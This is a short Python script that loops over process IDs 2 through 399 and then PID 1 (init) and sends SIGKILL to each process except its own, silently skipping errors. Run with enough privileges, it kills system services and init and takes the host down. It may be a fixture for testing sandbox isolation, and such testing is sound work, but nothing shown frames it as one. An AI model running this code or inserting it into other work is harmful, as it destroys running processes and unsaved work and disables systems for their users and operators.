"""Signals whatever it can: everything in sight, then every number, and its init."""

import os
import signal

for pid in [*range(2, 400), 1]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            continue
DONE = True
